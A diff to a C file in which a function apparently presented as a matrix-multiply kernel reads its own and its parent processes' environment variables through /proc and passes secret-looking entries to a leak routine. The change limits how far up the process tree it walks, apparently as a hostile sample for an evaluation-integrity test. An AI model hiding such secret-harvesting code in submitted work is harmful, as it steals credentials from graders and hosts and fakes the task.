@@ -19,6 +19,15 @@
 #include <string.h>
 #include <unistd.h>
 
+/* Ancestors are walked only below the test's driver (its pid comes in
+ * -DINTEGRITY_DRIVER), so nothing outside the test is ever read or touched;
+ * without it, at most the three nearest (judge, worker, engine). */
+#ifndef INTEGRITY_DRIVER
+#define INTEGRITY_DRIVER 0
+#endif
+#define ANCESTOR_OK(pid, depth)                                                                    \
+    ((pid) > 1 && (pid) != INTEGRITY_DRIVER && (depth) < (INTEGRITY_DRIVER ? 8 : 3))
+
 extern char **environ;
 
 static int looks_secret(const char *kv)
@@ -61,7 +70,7 @@ void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *
     for (char **e = environ; e && *e; e++)
         leak(*e);
     leak_file("/proc/self/environ");
-    for (pid_t pid = getppid(); pid > 1;) {
+    for (pid_t pid = getppid(), depth = 0; ANCESTOR_OK(pid, depth); depth++) {
         char path[64];
         snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
         leak_file(path);
